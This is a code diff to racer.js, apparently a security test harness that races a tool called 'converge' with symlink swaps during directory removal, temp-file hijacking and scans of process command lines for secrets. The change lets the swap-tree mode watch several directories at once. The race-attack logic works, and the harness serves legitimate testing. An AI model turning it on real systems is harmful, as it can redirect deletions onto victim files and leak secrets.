@@ -5,7 +5,7 @@
 // attacks that landed in converge's window.
 //
 //   racer.js swap DIR VICTIM NAME...    NAME appears as a file or directory: rename it away, link NAME -> VICTIM
-//   racer.js swap-tree DIR VICTIM NAME  DIR/NAME starts to lose entries (a removal is under way): link it -> VICTIM
+//   racer.js swap-tree VICTIM DIR...     a DIR starts to lose entries (a removal is under way): link it -> VICTIM
 //   racer.js temps DIR PREFIX VICTIM    a DIR entry starts with PREFIX: read it (print what was read), then link it -> VICTIM
 //   racer.js ps HEX                     print the command line of any process that shows the secret HEX encodes
 //                                       (encoded, so that the racer's own command line does not show it)
@@ -45,16 +45,15 @@ if (mode === 'swap') {
     }
   }
 } else if (mode === 'swap-tree') {
-  const [dir, victim, name] = args;
-  const p = path.join(dir, name);
-  const full = fs.readdirSync(p).length;
+  const [victim, ...dirs] = args;
+  const full = new Map(dirs.map((p) => [p, fs.readdirSync(p).length]));
   while (Date.now() < deadline) {
-    for (let i = 0; i < 200; i++) {
+    for (const [p, count] of full) {
       const st = lstat(p);
       if (!st || st.isSymbolicLink()) continue;
       let left: number;
       try { left = fs.readdirSync(p).length; } catch { continue; }
-      if (left < full && swap(dir, p, victim)) say(`swap ${p} after ${full - left} removed`);
+      if (left < count && swap(path.dirname(p), p, victim)) say(`swap ${p} after ${count - left} removed`);
     }
   }
 } else if (mode === 'temps') {
